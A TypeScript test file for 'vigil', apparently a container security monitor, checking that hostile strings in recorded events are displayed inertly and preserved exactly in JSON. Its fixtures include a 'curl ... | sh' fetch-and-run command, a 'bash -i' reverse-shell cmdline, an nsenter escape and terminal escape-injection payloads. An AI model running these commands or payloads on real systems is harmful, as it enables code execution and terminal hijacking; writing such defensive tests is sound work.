// Attacker-controlled strings (container names, argv, file names, log lines, Kubernetes fields,
// vigil's own event fields, timestamps) are inert on every screen of the workbench and in the
// human-readable CLI output, and exact in the JSON output: escape and control sequences, bidi
// overrides, invalid UTF-8 and megabyte lengths included.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { render } from 'ink-testing-library';
import { createElement } from 'react';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/engine/alert.js';
import type { VigilEvent } from '../../src/engine/events.js';
import type { Profile } from '../../src/engine/profile.js';
import { loadProfile } from '../../src/profile/load.js';
import { ReplayPlayer } from '../../src/runtime/replay-player.js';
import { WhitelistService } from '../../src/runtime/whitelist.js';
import { openStateStore } from '../../src/state/store.js';
import { App } from '../../src/ui/app.js';
import { AlertStore } from '../../src/ui/model/alert-store.js';
import { EventWindow } from '../../src/ui/model/event-window.js';
import { StatusModel } from '../../src/ui/model/status.js';
import { VIGIL_BIN, jsonLines } from '../helpers/cli.js';
import { CONTAINER } from '../helpers/kernel-events.js';
import { liveGate } from '../helpers/live.js';
import { terminal, tmux, tmuxAvailable } from '../helpers/tmux.js';
import { hostileContainer, hostileEvents, PAYLOAD, shownEscaped, tags, UNSAFE_ON_SCREEN, writeRecording } from './hostile.js';
import { run } from './sandbox.js';

let dir: string;
let profile: Profile;
let profileFile: string;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-hostile-'));
  profile = { ...(await loadProfile()), blockedImages: ['evil/*'] };
  profileFile = join(dir, 'blocking.yaml');
  writeFileSync(profileFile, 'blockedImages: ["evil/*"]\n');
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const cleanups: (() => void | Promise<void>)[] = [];
afterAll(async () => {
  while (cleanups.length) await cleanups.pop()!();
});

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** The workbench over a recording, wired as `vigil --replay FILE --state FILE` wires it. */
async function replayWorkbench(file: string, size = { columns: 160, rows: 100 }) {
  const store = new AlertStore();
  const status = new StatusModel();
  const events = new EventWindow();
  let skipped = 0;
  const player = new ReplayPlayer({
    file,
    profile,
    onAlert: (a) => store.add(a),
    onEvent: (e) => {
      status.observe(e);
      events.add(e);
    },
    onReset: () => {
      store.clear();
      events.clear();
    },
    onProblem: () => status.setSkipped(++skipped),
  });
  await player.start();
  const state = await openStateStore(join(dir, `state-${Math.random().toString(36).slice(2)}.json`), { onWarning: () => {} });
  const app = render(
    createElement(App, {
      mode: 'replay',
      lang: 'en',
      store,
      status,
      events,
      engine: () => player.session.engine,
      profile,
      replay: player,
      whitelist: new WhitelistService(state, (e) => player.session.ingest(e)),
      exportAlerts: async () => 'not exported',
      onQuit: () => {},
      ...size,
    }),
  );
  cleanups.push(async () => {
    app.unmount();
    status.stop();
    await player.stop();
  });
  const frame = () => app.lastFrame() ?? '';
  const until = async (pattern: RegExp, timeoutMs = 5000) => {
    const end = Date.now() + timeoutMs;
    while (!pattern.test(frame())) {
      if (Date.now() > end) throw new Error(`the frame never showed ${pattern}: ${JSON.stringify(frame())}`);
      await sleep(10);
    }
    // The frame is out before React's effects have run: a key typed now could meet the handler
    // of the screen before.
    await sleep(20);
    return frame();
  };
  /**
   * Types a key and waits for the frame it causes (at most `settleMs`, for keys that change
   * nothing); returns the milliseconds until that frame.
   */
  const press = async (key: string, settleMs = 150): Promise<number> => {
    const before = frame();
    const start = performance.now();
    app.stdin.write(key);
    do await sleep(2);
    while (frame() === before && performance.now() - start < settleMs);
    const ms = performance.now() - start;
    // As in until(): the next key must meet the handler of the screen now shown.
    if (frame() !== before) await sleep(20);
    return ms;
  };
  return { frame, until, press, store, state };
}

describe('the workbench over a recording of hostile events', () => {
  it('shows every field that reaches the screen escaped, and nothing a terminal would act on, on any screen', async () => {
    const events = hostileEvents();
    const file = writeRecording(join(dir, 'every-field.jsonl'), events);
    const w = await replayWorkbench(file);
    const ended = new RegExp(`ended ${events.length}/${events.length} `);
    await w.press('G');
    await w.until(ended);
    w.store.flush();
    const frames: string[] = [w.frame()];
    const alerts: Alert[] = [...w.store.getSnapshot().alerts].reverse(); // as listed: newest first
    expect(new Set(alerts.map((a) => a.ruleId))).toEqual(
      new Set([
        'system.container_security_options',
        'system.container_mounts',
        'system.image_blocked',
        'system.reverse_shell',
        'system.high_risk_command',
        'system.syscall',
        'malware.webshell',
        'user.illegal_account',
        'user.brute_force',
        'cluster.pod_anomaly',
        'vigil.source_down',
        'vigil.events_dropped',
        'vigil.enforcement',
      ]),
    );
    // Every tab of every alert, going down the list.
    const shownId = () => /alert id +([0-9a-f]+)/.exec(w.frame())?.[1];
    for (const alert of alerts) {
      // The selection is drawn inverted, which these frames do not show: a down key that has not
      // landed yet shows as the previous alert opening, and is typed again.
      for (let attempt = 0; ; attempt++) {
        await w.press('\r');
        frames.push(await w.until(/alert id +[0-9a-f]+/));
        if (shownId() === alert.id) break;
        if (attempt === 5) throw new Error(`alert ${alert.id} never opened: ${shownId()} did`);
        await w.press('\x1b');
        await w.until(/All alerts +\d+\/\d+/);
        await w.press('j', 60);
      }
      for (const tab of ['2', '3', '4', '5', '6']) {
        await w.press(tab);
        frames.push(w.frame());
      }
      await w.press('\x1b');
      await w.until(/All alerts +\d+\/\d+/);
      await w.press('j', 30);
    }
    // The whitelist prompt and screen name the alert's image and process.
    for (const key of ['/', 'P', '2', '1', '\r']) await w.press(key);
    await w.until(/ 1 alert(?!s)/);
    await w.press('w');
    frames.push(await w.until(/whitelist .* for image/));
    await w.press('y');
    frames.push(await w.until(/whitelisted/));
    await w.press('W');
    frames.push(await w.until(/Process whitelist/));
    expect(w.state.data.whitelist).toHaveLength(1);

    for (const f of frames) {
      const bad = UNSAFE_ON_SCREEN.exec(f);
      if (bad) throw new Error(`raw ${JSON.stringify(bad[0])} on the screen: ${JSON.stringify(f.slice(Math.max(0, bad.index - 80), bad.index + 40))}`);
    }
    const shown = frames.join('\n');
    const expected = [...tags].filter((t) => !NOT_SHOWN.includes(t));
    expect(expected.length).toBeGreaterThan(70);
    expect(expected.filter((t) => !shownEscaped(t).test(shown))).toEqual([]);
    expect(NOT_SHOWN.filter((t) => shownEscaped(t).test(shown))).toEqual([]);
  }, 30_000);
});

/**
 * The fields no screen shows: a rename's image (the container's image comes from its snapshots)
 * and the entries of a recorded whitelist event (they change what the engine alerts on; the
 * whitelist screen lists the state file's entries).
 */
const NOT_SHOWN = ['N21', 'V05', 'V06'];

/** `vigil ARGS` as a user runs it, its output as bytes. */
const vigil = (...args: string[]) => run([process.execPath, VIGIL_BIN, ...args], { env: { PATH: process.env.PATH, NO_COLOR: '1' }, cwd: dir });

/** What JSON output must not carry raw: everything a terminal acts on, and the line separators. */
const RAW_IN_JSON = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Every string in a JSON value, keys included. */
function strings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) strings(v, out);
  else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push(k);
      strings(v, out);
    }
  }
  return out;
}

const utf8 = (bytes: Buffer): string => new TextDecoder('utf-8', { fatal: true }).decode(bytes);

describe('vigil detect --replay of the hostile events', () => {
  it('--json keeps every string exactly, with every control escaped in the JSON text', async () => {
    const file = writeRecording(join(dir, 'every-field-cli.jsonl'), hostileEvents());
    const { code, stdout, stderr } = await vigil('detect', '--replay', file, '--profile', profileFile, '--json');
    expect(code, stderr).toBe(0);
    const text = utf8(stdout);
    const bad = RAW_IN_JSON.exec(text.replaceAll('\n', ''));
    if (bad) throw new Error(`raw ${JSON.stringify(bad[0])} in the JSON output: ${JSON.stringify(text.slice(Math.max(0, bad.index - 60), bad.index + 20))}`);
    expect(text).toContain('\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[31m\\u202e\\u009b1m\\u0000\\b\\r\\n\\u2066\\u007f');
    const alerts = jsonLines<Alert>(text);
    expect(alerts).toHaveLength(19);
    // Wherever a tag went, the payload followed it whole: not escaped, cut or replaced (a rule
    // may change its case: capabilities are named in upper case).
    const found = new Set<string>();
    const payloads = [PAYLOAD, PAYLOAD.replace(/[\r\n]/g, '')].map((p) => p.toLowerCase());
    for (const s of strings(alerts)) {
      for (const m of s.matchAll(/([NPFLKVT]\d\d)\x1b/gi)) {
        const rest = s.slice(m.index + 3).toLowerCase();
        expect(payloads.some((p) => rest.startsWith(p)), `after ${m[1]}: ${JSON.stringify(rest.slice(0, 40))}`).toBe(true);
        found.add(m[1]!.toUpperCase());
      }
    }
    expect(found.size).toBeGreaterThan(30);
    const byRule = (id: string) => alerts.filter((a) => a.ruleId === id);
    expect(byRule('system.image_blocked')[0]!.container).toEqual({ id: CONTAINER, name: hostileContainer().name, image: hostileContainer().image });
    expect(byRule('system.reverse_shell')[0]!.process!.cmdline).toEqual(['bash', '-i', `P01${PAYLOAD}`]);
    expect(byRule('cluster.pod_anomaly').map((a) => a.pod)).toContainEqual({ namespace: `K30${PAYLOAD}`, name: `K31${PAYLOAD}` });
    expect(byRule('vigil.source_down')[0]!.evidence).toEqual({ source: `V01${PAYLOAD}`, state: 'down', reason: `V02${PAYLOAD}` });
    expect(alerts.at(-1)!.ts).toBe(`2026-11-27TT01${PAYLOAD}`);
  });

  it('prints one inert line per alert, timestamps included', async () => {
    const file = writeRecording(join(dir, 'every-field-human.jsonl'), hostileEvents());
    const { code, stdout, stderr } = await vigil('detect', '--replay', file, '--profile', profileFile);
    expect(code, stderr).toBe(0);
    const lines = utf8(stdout).trimEnd().split('\n');
    expect(lines).toHaveLength(19);
    for (const line of lines) {
      const bad = UNSAFE_ON_SCREEN.exec(line);
      if (bad) throw new Error(`raw ${JSON.stringify(bad[0])} in ${JSON.stringify(line.slice(0, 200))}`);
    }
    const shown = lines.join('\n');
    for (const t of ['N01', 'N02', 'N20', 'K30', 'K31', 'V01', 'V02', 'T01']) expect(shown).toMatch(shownEscaped(t));
  });
});

/** Bytes that are not UTF-8: stray continuation bytes, an overlong NUL, an encoded surrogate, a cut sequence. */
const INVALID = Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xe2, 0x82]);
/** What a UTF-8 decoder makes of them: one U+FFFD per maximal bad subsequence. */
const REPLACED = '\ufffd'.repeat(8);

/**
 * A recording whose lines carry invalid UTF-8: in a container's name (the line is valid JSON
 * around it), spread through a megabyte command line so some fall across the reader's chunks,
 * beside valid multi-byte characters, and between a line's keys (no JSON at all).
 */
function invalidUtf8Recording(path: string): { name: string; argv: string } {
  const container = { ...hostileContainer(), name: '@NAME@', image: 'evil/bytes' };
  const snapshot = JSON.stringify({ seq: 1, ts: '2026-11-27T10:00:01.000Z', source: 'docker', kind: 'container.snapshot', data: { reason: 'start', container } });
  const piece = Buffer.concat([Buffer.from('é中😀 '), INVALID, Buffer.from(' x'.repeat(300))]);
  const argvBytes = Buffer.concat(Array.from({ length: Math.ceil((1 << 20) / piece.length) }, () => piece));
  const exec = JSON.stringify({
    seq: 2,
    ts: '2026-11-27T10:00:02.000Z',
    source: 'audit',
    kind: 'exec',
    data: { serial: 2, key: 'vigil_exec', success: true, exit: 0, process: { pid: 4300, ppid: 1, startTime: 1, exe: '/bin/sh', cmdline: ['sh', '-c', 'curl -s http://203.0.113.7/x | sh @ARGV@'], uid: 0, euid: 0, containerId: CONTAINER, comm: 'sh', startTimeExact: true }, cwd: '/', paths: [] },
  });
  const splice = (json: string, marker: string, bytes: Buffer) => {
    const [a, b] = json.split(marker) as [string, string];
    return Buffer.concat([Buffer.from(a), bytes, Buffer.from(b)]);
  };
  const nameBytes = Buffer.concat([Buffer.from('evil'), INVALID, Buffer.from('name')]);
  writeRecording(path, [
    splice(snapshot, '@NAME@', nameBytes),
    splice(exec, '@ARGV@', argvBytes),
    Buffer.concat([Buffer.from('{"seq":3,'), INVALID, Buffer.from('"ts":"2026-11-27T10:00:03.000Z","source":"vigil","kind":"dropped","data":{"source":"proc","count":1,"total":1}}')]),
  ]);
  return { name: `evil${REPLACED}name`, argv: `curl -s http://203.0.113.7/x | sh ${new TextDecoder().decode(argvBytes)}` };
}

describe('invalid UTF-8 in a recording', () => {
  it('becomes U+FFFD, one per bad sequence, wherever the reader cuts its chunks; a line it breaks is counted', async () => {
    const file = join(dir, 'bytes.jsonl');
    const { name, argv } = invalidUtf8Recording(file);
    expect(argv).toContain(`é中😀 ${REPLACED} x`);
    const json = await vigil('detect', '--replay', file, '--profile', profileFile, '--json');
    expect(json.code, json.stderr).toBe(0);
    expect(json.stderr).toContain(`${file}:4: not valid JSON`);
    expect(json.stderr).toContain(`${file}: 1 corrupt line skipped`);
    const alerts = jsonLines<Alert>(utf8(json.stdout));
    expect(alerts.find((a) => a.ruleId === 'system.image_blocked')!.container!.name).toBe(name);
    expect(alerts.find((a) => a.ruleId === 'system.high_risk_command')!.process!.cmdline[2]).toBe(argv);

    const human = await vigil('detect', '--replay', file, '--profile', profileFile);
    const text = utf8(human.stdout); // throws on a byte that is not UTF-8
    expect(text).toContain(`${name} (evil/bytes)`);
    expect(text).not.toMatch(UNSAFE_ON_SCREEN);
  });

  it('shows as U+FFFD in the workbench', async () => {
    const file = join(dir, 'bytes-workbench.jsonl');
    const { name } = invalidUtf8Recording(file);
    const w = await replayWorkbench(file, { columns: 120, rows: 30 });
    await w.press('G');
    const list = await w.until(/ended 2\/2 .*skipped 1/);
    expect(list).toContain(name);
    expect(list).not.toMatch(UNSAFE_ON_SCREEN);
  });
});

/** A megabyte of text with the payload all through it. */
const megabyte = (name: string): string => `${name}${(PAYLOAD + 'A'.repeat(200)).repeat(Math.ceil((1 << 20) / (PAYLOAD.length + 200)))}`;

/**
 * A container named and imaged in megabytes, a megabyte command line, log lines, a Kubernetes
 * user; and `more` further megabyte command lines, each its own alert.
 */
function megabyteEvents(more = 0): VigilEvent[] {
  const container = { ...hostileContainer(), name: megabyte('M01'), image: `evil/${megabyte('M02')}` };
  const auditProcess = { pid: 4300, ppid: 1, startTime: 1, exe: '/bin/sh', cmdline: ['sh', '-c', `curl -s http://203.0.113.7/x | sh ${megabyte('M03')}`], uid: 0, euid: 0, containerId: CONTAINER, comm: 'sh', startTimeExact: true };
  let seq = 0;
  const ts = () => new Date(Date.parse('2026-11-27T10:00:00Z') + seq * 1000).toISOString();
  return [
    { seq: ++seq, ts: ts(), source: 'docker', kind: 'container.snapshot', data: { reason: 'start', container } },
    { seq: ++seq, ts: ts(), source: 'audit', kind: 'exec', data: { serial: 1, key: 'vigil_exec', success: true, exit: 0, process: auditProcess, cwd: '/', paths: [] } },
    ...Array.from({ length: 5 }, (): VigilEvent => ({ seq: ++seq, ts: ts(), source: 'logs', kind: 'auth', data: { service: 'ssh', outcome: 'failure', sourceIp: '203.0.113.9', user: 'root', containerId: CONTAINER, origin: 'container', line: megabyte('M04') } })),
    {
      seq: ++seq,
      ts: ts(),
      source: 'k8s',
      kind: 'audit',
      data: { auditID: 'mega', stage: 'ResponseStarted', level: 'Metadata', verb: 'create', requestURI: '/api/v1/namespaces/web/pods/shop/exec?command=sh', user: { username: megabyte('M05') }, sourceIPs: ['10.0.0.1'], userAgent: 'kubectl', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'web', name: 'shop' }, responseStatus: { code: 101 }, requestReceivedTimestamp: ts() },
    },
    ...Array.from({ length: more }, (_, i): VigilEvent => ({
      seq: ++seq,
      ts: ts(),
      source: 'audit',
      kind: 'exec',
      data: { serial: seq, key: 'vigil_exec', success: true, exit: 0, process: { ...auditProcess, pid: 5000 + i, cmdline: ['nsenter', '-t', '1', '-m', `${megabyte('M06')}${i}`] }, cwd: '/', paths: [] },
    })),
  ];
}

describe('megabyte strings', () => {
  it('the human-readable lines stay short and inert; the JSON keeps them whole', async () => {
    const file = writeRecording(join(dir, 'mega.jsonl'), megabyteEvents());
    const started = performance.now();
    const [human, json] = await Promise.all([vigil('detect', '--replay', file, '--profile', profileFile), vigil('detect', '--replay', file, '--profile', profileFile, '--json')]);
    const ms = Math.round(performance.now() - started);
    expect(human.code, human.stderr).toBe(0);
    const lines = utf8(human.stdout).trimEnd().split('\n');
    expect(lines.length).toBeGreaterThanOrEqual(5);
    expect(Math.max(...lines.map((l) => l.length))).toBeLessThan(16 * 1024);
    for (const line of lines) expect(line).not.toMatch(UNSAFE_ON_SCREEN);
    const alerts = jsonLines<Alert>(utf8(json.stdout));
    expect(alerts.find((a) => a.ruleId === 'system.image_blocked')!.container!.name).toBe(megabyte('M01'));
    expect(alerts.find((a) => a.ruleId === 'system.high_risk_command')!.process!.cmdline[2]).toBe(`curl -s http://203.0.113.7/x | sh ${megabyte('M03')}`);
    expect(alerts.find((a) => a.ruleId === 'cluster.pod_anomaly')!.k8s!.user).toBe(megabyte('M05'));
    console.info(`megabyte strings: both CLI runs in ${ms} ms; longest human-readable line ${Math.max(...lines.map((l) => l.length))} characters`);
  });

  it('the workbench still answers at once: the list, the filter, the drill-down and every tab', async () => {
    // 16 alerts of megabytes each: what the filter searches on every key.
    const file = writeRecording(join(dir, 'mega-workbench.jsonl'), megabyteEvents(8));
    const w = await replayWorkbench(file, { columns: 120, rows: 40 });
    const timings: Record<string, number> = {};
    const keystrokes: number[] = [];
    /** Milliseconds from a key to the frame it causes (and, given a pattern, to a frame showing it). */
    const timed = async (what: string, key: string, pattern?: RegExp) => {
      const start = performance.now();
      const ms = await w.press(key, 3000);
      const f = pattern ? await w.until(pattern) : w.frame();
      timings[what] = Math.round(pattern ? performance.now() - start : ms);
      expect(f).not.toMatch(UNSAFE_ON_SCREEN);
      return f;
    };
    await timed('replay to the end', 'G', /ended 16\/16 /);
    // Each alert that carries a megabyte string, found with the filter, and each of its tabs,
    // each reached from the summary (two tabs can look the same: "not about a container").
    const alerts = [
      ['system.high_risk_command', 'download', 'M03'],
      ['user.brute_force', 'brute', 'M04'],
      ['cluster.pod_anomaly', 'pod_a', 'M05'],
      ['system.image_blocked', 'image_b', 'M02'],
    ] as const;
    for (const [ruleId, filter, tag] of alerts) {
      await w.press('/');
      for (const ch of filter) keystrokes.push(await w.press(ch, 3000));
      await w.press('\r');
      await w.until(/ 1 alert(?!s)/);
      const opened = await timed(`${ruleId}: open`, '\r', /1 Summary/);
      expect(opened).toMatch(shownEscaped(tag));
      for (const tab of ['2', '3', '4', '5', '6']) {
        await timed(`${ruleId}: tab ${tab}`, tab);
        await w.press('1');
        await w.until(/alert id /);
      }
      await w.press('\x1b');
      await w.until(/All alerts +\d+\/\d+/);
      await w.press('/');
      for (const _ of filter) keystrokes.push(await w.press('\x7f', 3000));
      await w.press('\r');
    }
    timings['slowest filter keystroke'] = Math.round(Math.max(...keystrokes));
    console.info(`megabyte strings in the workbench (ms): ${JSON.stringify(timings)}`);
    // Replaying reads and checks 16 MB; the rest is drawing, and the filter searching 16 alerts.
    const bound = (what: string) => (what === 'replay to the end' ? 10_000 : what === 'slowest filter keystroke' ? 300 : 1500);
    for (const [what, ms] of Object.entries(timings)) expect(ms, what).toBeLessThan(bound(what));
  }, 30_000);
});

const inTerminal = liveGate('terminal (tmux)', tmuxAvailable);

describe.runIf(inTerminal)('in a real terminal', () => {
  const session = `vigil-hostile-${process.pid}`;
  afterAll(() => void tmux('kill-session', '-t', session));
  const { screen, until } = terminal(session, 20_000);
  const key = (k: string) => tmux('send-keys', '-t', session, k);
  const title = () => tmux('display', '-p', '-t', session, '#{pane_title}').stdout.trim();

  it('the workbench shows hostile strings escaped, keeps its window title, and opens a megabyte command line at once', async () => {
    const file = writeRecording(join(dir, 'terminal.jsonl'), [...hostileEvents(), ...megabyteEvents().map((e) => ({ ...e, seq: e.seq + 100 }))]);
    const command = `${process.execPath} ${VIGIL_BIN} --replay ${file} --profile ${profileFile} --state ${join(dir, 'terminal-state.json')}; echo "vigil exited $?"; sleep 60`;
    const started = performance.now();
    expect(tmux('new-session', '-d', '-s', session, '-x', '160', '-y', '40', command).status).toBe(0);
    await until(/REPLAY/, 'the workbench');
    const firstFrame = Math.round(performance.now() - started);
    key('G');
    await until(/ended 29\/29 /, 'the end of the replay');
    const list = screen();
    // An OSC 0 obeyed would have set the pane's title; the escapes are on the screen instead.
    expect(title()).not.toContain('pwned');
    expect(list).toMatch(shownEscaped('N20'));
    expect(list).toMatch(/● V01\\x1b\]0;pwned/);
    for (const k of ['/', 'M', '0', '3', 'Enter']) {
      key(k);
      await new Promise((r) => setTimeout(r, 100));
    }
    await until(/ 1 alert(?!s)/, 'the filtered list');
    const opening = performance.now();
    key('Enter');
    const detail = await until(/alert id/, 'the drill-down of the megabyte command line');
    const drillDown = Math.round(performance.now() - opening);
    expect(detail).toMatch(shownEscaped('M03'));
    const tabbing = performance.now();
    key('5');
    await until(/#102 /, 'the events tab');
    const eventsTab = Math.round(performance.now() - tabbing);
    expect(title()).not.toContain('pwned');
    key('Escape');
    await new Promise((r) => setTimeout(r, 200));
    key('q');
    await until(/vigil exited 0/, 'vigil to exit');
    console.info(`megabyte command line in a real terminal (ms): first frame ${firstFrame}, drill-down ${drillDown}, events tab ${eventsTab}`);
    expect(drillDown).toBeLessThan(2000);
    expect(eventsTab).toBeLessThan(2000);
  }, 60_000);
});
